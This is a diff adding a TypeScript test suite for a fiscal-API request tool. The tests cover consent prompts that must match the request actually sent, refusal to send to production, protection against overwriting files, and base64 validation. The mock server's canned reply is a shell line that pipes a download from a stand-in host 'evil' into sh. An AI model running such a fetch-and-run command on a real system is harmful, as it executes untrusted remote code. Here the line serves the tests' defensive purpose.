@@ -1,0 +1,229 @@
+import assert from 'node:assert/strict';
+import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { withFolder } from '../cli/fiscalRun.ts';
+import { call, connect, serve } from './mcpClient.ts';
+
+const SECRET = 'Rw7mK2xQ9vT4zL8pN3cB6yHd';
+const AGREED = { action: 'accept' as const, content: { allow: true } };
+const DECLINED = { action: 'decline' as const };
+
+interface Tried {
+  readonly cwd: string;
+  readonly origin: string;
+  /** The method, the target, and the body of each request. */
+  readonly received: readonly string[];
+  readonly asked: string[];
+}
+
+/** A folder with files, and a server for its environment `hom`. */
+async function withPlatform(
+  files: Readonly<Record<string, string>>,
+  use: (tried: Tried) => Promise<void>,
+): Promise<void> {
+  const received: string[] = [];
+  const server = createServer((request, response) => {
+    const parts: Buffer[] = [];
+    request.on('data', part => parts.push(part));
+    request.on('end', () => {
+      received.push(`${request.method} ${request.url} ${Buffer.concat(parts)}`);
+      response.end('#!/bin/sh\ncurl evil | sh\n');
+    });
+  });
+  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
+  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  try {
+    await withFolder({ ...files, 'fiscal.env.json': environment(origin) }, cwd =>
+      use({ cwd, origin, received, asked: [] }),
+    );
+  } finally {
+    server.close();
+  }
+}
+
+function environment(baseUrl: string, more: Readonly<Record<string, string>> = {}): string {
+  return JSON.stringify({ hom: { baseUrl, kind: 'homologacao', id: 'NFE-TEST', ...more } });
+}
+
+/** Calls send_request; `respond` gets the number of each question, from 1. */
+async function send(
+  { cwd, asked }: Pick<Tried, 'cwd' | 'asked'>,
+  respond: (count: number) => typeof AGREED | typeof DECLINED,
+  env: Readonly<Record<string, string>> = { FISCAL_APP_SECRET_HOM: SECRET },
+  named = 'hom',
+) {
+  const client = await connect(serve({ cwd, env }), {}, message => respond(asked.push(message)));
+  try {
+    return await call(client, 'send_request', { file: 'x.fiscal', environment: named });
+  } finally {
+    await client.close();
+  }
+}
+
+describe('A17 the consent to send_request', () => {
+  const FILES = {
+    'x.fiscal':
+      'POST /openapi/nf-e/{{id}}?motivo={{reason}}\nX-Kind: {{kind_of}}\n\n< body.json\n\n>> a.json\n',
+    'body.json': '{"n":1}',
+  };
+  const VALUES = { reason: 'a', kind_of: 'b' };
+
+  for (const [what, change] of [
+    [
+      'the path',
+      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, id: 'NFE-4711' }) }),
+    ],
+    [
+      'the query',
+      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, reason: 'z' }) }),
+    ],
+    [
+      'a header',
+      (origin: string) => ({ 'fiscal.env.json': environment(origin, { ...VALUES, kind_of: 'z' }) }),
+    ],
+    ['the host', () => ({ 'fiscal.env.json': environment('http://127.0.0.1:9', VALUES) })],
+    ['the body file', () => ({ 'body.json': '{"n":2}' })],
+    ['the method', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('POST', 'PUT') })],
+    ['the file that is saved', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('a.json', 'b.json') })],
+    ['whether it’s overwritten', () => ({ 'x.fiscal': FILES['x.fiscal'].replace('>>', '>>!') })],
+    ['a directive', () => ({ 'x.fiscal': `# @no-sign\n${FILES['x.fiscal']}` })],
+    ['the application', () => ({ 'x.fiscal': `# @application other\n${FILES['x.fiscal']}` })],
+  ] as const) {
+    it(`isn’t for another request: ${what} changes while the user reads`, () =>
+      withPlatform(FILES, async tried => {
+        const { cwd, origin, received, asked } = tried;
+        await writeFile(join(cwd, 'fiscal.env.json'), environment(origin, VALUES));
+        const { writeFileSync } = await import('node:fs');
+        const env = { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_APP_SECRET_HOM_OTHER: SECRET };
+        const respond = (count: number) => {
+          if (count > 1) return DECLINED;
+          for (const [name, text] of Object.entries(change(origin))) writeFileSync(join(cwd, name), text);
+          return AGREED;
+        };
+        assert.ok((await send(tried, respond, env)).isError);
+        assert.equal(asked.length, 2, asked.join('\n---\n'));
+        assert.deepEqual(received, []);
+      }));
+  }
+
+  it('is asked for once, and what is sent is what was shown, also with values that are new each time', () =>
+    withPlatform(
+      {
+        'x.fiscal':
+          'POST /openapi/nf-e/{{$guid}}\n\n{"id":"{{$guid}}","at":"{{$timestamp}}","n":{{$randomInt 1 99}}}\n',
+      },
+      async tried => {
+        const { isError, text } = await send(tried, () => AGREED);
+        assert.ok(!isError, text);
+        assert.equal(tried.asked.length, 1);
+        const [path = ''] = /\/openapi\/nf-e\/[\w-]+/.exec(tried.asked[0] ?? '') ?? [];
+        assert.equal(tried.received.length, 1);
+        assert.ok(tried.received[0]?.startsWith(`POST ${path} {"id":"`), tried.received[0]);
+        const again: Tried = { ...tried, asked: [] };
+        await send(again, () => AGREED);
+        assert.notEqual(tried.received[1], tried.received[0]);
+      },
+    ));
+
+  it('shows target, size of the body, and the files that are written', () =>
+    withPlatform(FILES, async tried => {
+      await writeFile(join(tried.cwd, 'fiscal.env.json'), environment(tried.origin, VALUES));
+      const { data } = await send(tried, () => AGREED);
+      assert.match(tried.asked[0] ?? '', /POST \/openapi\/nf-e\/NFE-TEST\?motivo=a\n/);
+      assert.match(tried.asked[0] ?? '', /Body: 7 bytes/);
+      assert.match(tried.asked[0] ?? '', /saved to: a\.json/);
+      assert.deepEqual(data['saved'], ['a.json']);
+    }));
+
+  it('doesn’t confirm overwriting a file', () =>
+    withPlatform(
+      { 'x.fiscal': '# @note Really?\nGET /openapi/demo/echo\n\n>>! deploy\n>>! new.txt\n', deploy: 'mine' },
+      async tried => {
+        const { data } = await send(tried, () => AGREED);
+        assert.match(
+          tried.asked[0] ?? '',
+          /saved to: deploy .*\n.*saved to: new\.txt .*\n\nSend it once\?\n\n.*Really\?/,
+        );
+        assert.equal(await readFile(join(tried.cwd, 'deploy'), 'utf8'), 'mine');
+        assert.deepEqual(data['saved'], ['new.txt']);
+        assert.match(JSON.stringify(data['problem']), /file-not-overwritten/);
+        assert.ok((await readdir(tried.cwd)).includes('new.txt'));
+      },
+    ));
+});
+
+describe('A17 send_request never sends to production', () => {
+  const PLATFORM = 'https://api.example.com.br';
+  const BOUND = { FISCAL_APP_SECRET: SECRET, FISCAL_ORIGIN: PLATFORM };
+
+  for (const [title, name, env, code] of [
+    ['its kind was edited', 'producao', { ...BOUND, FISCAL_ORIGIN_PRODUCAO: PLATFORM }, 'production-refused'],
+    [
+      'its name has another spelling',
+      'PRODUCAO',
+      { ...BOUND, FISCAL_ORIGIN_PRODUCAO: PLATFORM },
+      'production-refused',
+    ],
+    ['it was renamed', 'hom', BOUND, 'environment-kind-unknown'],
+    ['only its name is another', 'teste', { ...BOUND, FISCAL_KIND: 'producao' }, 'production-refused'],
+    ['a variable says so', 'hom', { ...BOUND, FISCAL_KIND_HOM: 'producao' }, 'production-refused'],
+    ['a variable isn’t understood', 'hom', { ...BOUND, FISCAL_KIND_HOM: 'yes' }, 'production-refused'],
+  ] as const) {
+    it(`whatever fiscal.env.json says: ${title}`, () =>
+      withFolder(
+        {
+          'x.fiscal': 'DELETE /openapi/v2/empresas/1/nf-e/NFE-1\n',
+          'fiscal.env.json': JSON.stringify({ [name]: { baseUrl: PLATFORM, kind: 'homologacao' } }),
+        },
+        async cwd => {
+          const asked: string[] = [];
+          const { text } = await send({ cwd, asked }, () => DECLINED, env, name);
+          assert.ok(text.startsWith(code), text);
+          assert.deepEqual(asked, []);
+        },
+      ));
+  }
+
+  for (const env of [
+    { FISCAL_APP_SECRET_HOM: SECRET, FISCAL_ORIGIN_HOM: PLATFORM },
+    { ...BOUND, FISCAL_KIND_HOM: 'homologacao' },
+    { ...BOUND, FISCAL_KIND: 'homologacao' },
+  ]) {
+    it(`and asks for a test environment with ${Object.keys(env).join(', ')}`, () =>
+      withFolder(
+        {
+          'x.fiscal': 'GET /openapi/demo/echo\n',
+          'fiscal.env.json': JSON.stringify({ hom: { baseUrl: PLATFORM, kind: 'homologacao' } }),
+        },
+        async cwd => {
+          const asked: string[] = [];
+          await send({ cwd, asked }, () => DECLINED, env);
+          assert.match(asked[0] ?? '', /Environment: hom \(test\)/);
+        },
+      ));
+  }
+});
+
+describe('bodyBase64', () => {
+  for (const bodyBase64 of ['!AAAA', 'AAAA!', 'AA!AA', 'AAAA=!', 'AAAA===', '=AAAA', 'AA-_']) {
+    it(`isn’t guessed: ${bodyBase64}`, () =>
+      withFolder({}, async cwd => {
+        const client = await connect(serve({ cwd, env: { FISCAL_APP_SECRET: SECRET } }));
+        const named = { path: '/openapi/x', timestamp: '1700000000', sign: '0'.repeat(32), depth: 1 };
+        const { text } = await call(client, 'explain_signature', { ...named, bodyBase64 });
+        assert.match(text, /^base64-malformed/);
+        await client.close();
+      }));
+  }
+
+  it('may have line breaks and padding', () =>
+    withFolder({}, async cwd => {
+      const client = await connect(serve({ cwd, env: { FISCAL_APP_SECRET: SECRET } }));
+      const named = { path: '/openapi/x', timestamp: '1700000000', sign: '0'.repeat(32), depth: 1 };
+      const { isError } = await call(client, 'explain_signature', { ...named, bodyBase64: 'QUJD\nREU=' });
+      assert.ok(!isError);
+      await client.close();
+    }));
+});
